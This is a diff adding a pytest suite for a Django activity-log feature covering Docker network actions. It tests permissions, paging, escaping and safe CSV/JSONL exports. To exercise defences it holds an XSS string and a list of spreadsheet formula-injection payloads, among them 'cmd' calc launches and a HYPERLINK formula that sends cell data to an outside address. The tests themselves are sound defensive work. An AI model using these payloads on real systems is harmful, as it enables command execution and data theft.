@@ -1,0 +1,295 @@
+"""The pages of the activity, and the files made of it: who sees what, in words, hostile names spelt, no formulas, no secrets."""
+
+from __future__ import annotations
+
+import asyncio
+import csv
+import json
+from io import StringIO
+from typing import Any
+
+import pytest
+from django.conf import settings
+from django.contrib.auth.models import User
+from django.test import AsyncClient, Client
+from django.utils.translation import override
+
+from networks.actions.actors import CONSOLE
+from networks.actions.networks import create_network
+from networks.engine.specs import NetworkSpec
+from networks.models import Action, Outcome
+from networks.partials.activity import VERBS, draw_lines
+from networks.queries.activity.filters import Reader
+from networks.queries.activity.pages import list_activity
+from networks.views.activity.exports import FORMULA_SIGNS, safe_cell
+from tests.activity import make_action, make_actions
+from tests.builders import make_engine, make_network
+from tests.views.pages import count_statements, log_in
+
+pytestmark = pytest.mark.django_db
+
+HOSTILE = "<script>alert(1)</script>\u202e\x1b[31m"
+SPELT = "&lt;script&gt;alert(1)&lt;/script&gt;\\u202e␛[31m"
+
+
+def text_of(client: Client, path: str = "/activity/") -> str:
+    answer = client.get(path)
+    assert answer.status_code == 200
+    return str(answer.content.decode())
+
+
+def taken(client: Client, form: str, query: str = "") -> str:
+    answer = client.get(f"/activity/export.{form}?{query}")
+    assert answer.status_code == 200
+    return b"".join(answer.streaming_content).decode()  # type: ignore[attr-defined]
+
+
+def read_csv(text: str) -> list[dict[str, str]]:
+    return list(csv.DictReader(StringIO(text.removeprefix("\ufeff"))))
+
+
+def test_it_stands_in_the_navigation_and_says_what_was_asked_and_what_came_of_it() -> None:
+    make_engine()
+    make_action("front", outcomes=(("refused", "network with name front already exists"),))
+
+    page = text_of(log_in())
+
+    assert 'href="/activity/" aria-current="page"' in page
+    assert "Create the network <b>front</b>" in page
+    assert '<span class="bad">refused</span>' in page
+    assert "network with name front already exists" in page
+    assert "newest first; reload for more" in page
+
+
+def test_it_shows_one_action_with_its_command_and_all_outcomes_in_order() -> None:
+    engine = make_engine()
+    network = make_network(engine, "front")
+    action = make_action(
+        "front",
+        docker_id=network.docker_id,
+        command="docker network create --subnet 10.0.0.0/24 front",
+        from_address="192.0.2.7",
+        asked={"driver": "bridge", "is_internal": False, "labels": {"db.password": "•••"}},
+        outcomes=(("unknown", "read timed out"), ("ok", "Seen in the next read of the Engine.")),
+    )
+
+    page = text_of(log_in(), f"/activity/{action.pk}/")
+
+    assert "docker network create --subnet 10.0.0.0/24 front" in page
+    assert "192.0.2.7" in page
+    assert "db.password" in page
+    assert page.index("read timed out") < page.index("Seen in the next read")
+    assert f'href="/networks/local/{network.docker_id}/"' in page
+    assert f"?q={network.docker_id}" in page
+
+
+def test_it_explains_what_a_refusal_means() -> None:
+    make_engine()
+    action = make_action("front", outcomes=(("refused", "Pool overlaps with other one on this address space"),))
+
+    assert "A free subnet is needed." in text_of(log_in(), f"/activity/{action.pk}/")
+
+
+@pytest.mark.parametrize("role", ["viewer", "operator"])
+def test_it_keeps_what_others_did_from_people_who_are_no_admins(role: str) -> None:
+    engine = make_engine()
+    browser = log_in("mina", engine, role)
+    mine = make_action("mine", user_id=User.objects.get(username="mina").pk)
+    theirs = make_action("theirs", who="olga", user_id=4_000)
+
+    assert "<b>mine</b>" in text_of(browser)
+    assert "theirs" not in text_of(browser) + taken(browser, "csv") + taken(browser, "jsonl")
+    assert browser.get(f"/activity/{mine.pk}/").status_code == 200
+    assert browser.get(f"/activity/{theirs.pk}/").status_code == 404
+    assert 'name="who"' not in text_of(browser)
+
+
+def test_it_shows_an_admin_what_was_asked_of_their_engine_only() -> None:
+    engine = make_engine()
+    make_engine("other")
+    browser = log_in("mina", engine, "admin")
+    make_action("here", who="olga")
+    make_action("there", who="olga", engine_slug="other")
+
+    page = text_of(browser)
+
+    assert "<b>here</b>" in page
+    assert "<b>there</b>" not in page
+    assert '<option value="console">' in page
+
+
+def test_it_is_open_to_somebody_without_any_role() -> None:
+    User.objects.create_user("new")
+    browser = Client()
+    browser.force_login(User.objects.get(username="new"))
+
+    assert "Nobody has done anything yet" in text_of(browser)
+
+
+def test_it_goes_back_by_pages_of_a_hundred_that_keep_the_filter() -> None:
+    make_engine()
+    make_actions(450)
+    browser = log_in()
+
+    first = text_of(browser, "/activity/?who=olga")
+    older = Action.objects.filter(who="olga").order_by("-id")[99].pk
+    second = text_of(browser, f"/activity/?who=olga&before={older}")
+
+    assert first.count('<tr id="action-') == 100
+    assert f'href="?who=olga&amp;before={older}"' in first
+    assert second.count('<tr id="action-') == 50
+    assert "nothing older is kept" in second
+
+
+def test_it_takes_as_many_statements_for_a_hundred_as_for_one() -> None:
+    make_engine()
+    make_action("front")
+    browser = log_in()
+
+    few = count_statements(browser, "/activity/")
+    make_actions(150)
+
+    assert few == count_statements(browser, "/activity/") <= 10
+
+
+@pytest.mark.parametrize("path", ["/activity/99999999999999999999999/", "/activity/0/", "/activity/export.xlsx"])
+def test_it_has_no_page_for_what_is_not_there(path: str) -> None:
+    make_engine()
+
+    assert log_in().get(path).status_code == 404
+
+
+@pytest.mark.parametrize("path", ["/activity/?from=x&to=9999-12-31&outcome=%00&before=-1", "/activity/?who=%ff&q=%ed%a0%80"])
+def test_it_takes_any_query(path: str) -> None:
+    make_engine()
+
+    assert log_in().get(path).status_code == 200
+
+
+def test_it_spells_hostile_text_out_wherever_it_stands() -> None:
+    make_engine()
+    action = make_action(
+        HOSTILE,
+        who=HOSTILE[:100],
+        verb="frob_" + HOSTILE[:30],
+        command=HOSTILE,
+        asked={HOSTILE: HOSTILE},
+        outcomes=(("refused", HOSTILE),),
+    )
+    browser = log_in()
+
+    for page in (text_of(browser), text_of(browser, f"/activity/{action.pk}/")):
+        assert SPELT in page
+        assert "<script>alert" not in page
+        assert not {"\x1b", "\u202e"} & set(page)
+    assert not {"\x1b", "\u202e"} & set(taken(browser, "csv") + taken(browser, "jsonl"))
+
+
+@pytest.mark.parametrize("language", [code for code, _name in settings.LANGUAGES])
+def test_it_has_a_whole_sentence_for_every_verb_in_every_language(language: str) -> None:
+    for verb in VERBS:
+        make_action("front", verb=verb)
+        make_action("", verb=verb)
+
+    with override(language):
+        sentences = [line.sentence for line in draw_lines(list_activity(Reader(1, sees_all=True)).rows)]
+
+    assert all(sentence and "{" not in sentence for sentence in sentences)
+
+
+# What a spreadsheet would take for a formula, or for the beginning of one: OWASP's list, and what others found.
+FORMULAS = (
+    "=1+1",
+    "=cmd|' /C calc'!A0",
+    '=HYPERLINK("http://192.0.2.1/"&A1,"x")',
+    "+1+1",
+    "-2+3+cmd|' /C calc'!D2",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    "＝1+1",
+)
+
+
+@pytest.mark.parametrize("formula", FORMULAS)
+def test_it_leaves_no_formula_in_a_spreadsheet(formula: str) -> None:
+    make_engine()
+    make_action(formula, who=formula, command=formula, outcomes=(("refused", formula),))
+
+    text = taken(log_in(), "csv")
+
+    row = read_csv(text)[0]
+    assert text.startswith("\ufeff")
+    for column in ("what", "who", "command", "words"):
+        assert row[column].startswith("'")
+    assert not [cell for cell in row.values() if cell.startswith(FORMULA_SIGNS)]
+
+
+def test_it_keeps_cells_whole_that_hold_quotes_commas_and_lines() -> None:
+    make_engine()
+    make_action('a "b", c;\nd\0', outcomes=(("unknown", ""), ("ok", "")))
+
+    row = read_csv(taken(log_in(), "csv"))[0]
+
+    assert row["what"] == 'a "b", c;␊d␀'
+    assert (row["outcome"], row["outcomes"], row["engine"]) == ("ok", "unknown ok", "local")
+    assert safe_cell(None) == ""
+    assert safe_cell("plain") == "plain"
+
+
+def test_it_gives_programs_one_object_a_line_with_all_outcomes() -> None:
+    make_engine()
+    make_action("=front\x1b", asked={"driver": "bridge"}, outcomes=(("unknown", ""), ("ok", "seen")))
+    make_action("back")
+
+    lines = taken(log_in(), "jsonl").splitlines()
+
+    rows: list[dict[str, Any]] = [json.loads(line) for line in lines]
+    assert [row["what"] for row in rows] == ["back", "=front\x1b"]
+    assert all(line.isascii() for line in lines)
+    assert [outcome["outcome"] for outcome in rows[1]["outcomes"]] == ["unknown", "ok"]
+    assert rows[1]["asked"] == {"driver": "bridge"}
+
+
+def test_it_exports_what_the_filter_leaves_however_many_pages_that_are() -> None:
+    make_engine()
+    make_actions(1_300)
+    browser = log_in()
+
+    assert len(read_csv(taken(browser, "csv"))) == 1_300
+    wanted = Action.objects.filter(who="olga", verb="create_network").count()
+    assert len(taken(browser, "jsonl", "who=olga&verb=create_network").splitlines()) == wanted > 100
+
+
+@pytest.mark.django_db(transaction=True)
+def test_it_streams_to_the_server_that_people_use(recwarn: pytest.WarningsRecorder) -> None:
+    make_engine()
+    make_actions(1_200)
+    browser = AsyncClient()
+    browser.force_login(User.objects.create_superuser("root"))
+
+    async def take() -> list[bytes]:
+        answer = await browser.get("/activity/export.csv")
+        return [part async for part in answer.streaming_content]  # type: ignore[attr-defined]
+
+    parts = asyncio.run(take())
+
+    assert len(parts) == 1 + 3
+    assert len(read_csv(b"".join(parts).decode())) == 1_200
+    assert not recwarn.list
+
+
+@pytest.mark.django_db(transaction=True)
+def test_it_writes_no_secret_into_the_record_or_any_file() -> None:
+    engine = make_engine()
+    engine.url = "unix:///nonexistent/docker.sock"
+    spec = NetworkSpec("front", labels={"db.password": "hush-hush", "API_KEY": "hush-hush", "team": "web"})
+
+    result = create_network(CONSOLE, engine, spec)
+
+    browser = log_in()
+    written = json.dumps([*Action.objects.values(), *Outcome.objects.values()], default=str)
+    pages = text_of(browser) + text_of(browser, f"/activity/{result.action_id}/")
+    assert "hush-hush" not in written + pages + taken(browser, "csv") + taken(browser, "jsonl")
+    assert "team=web" in pages
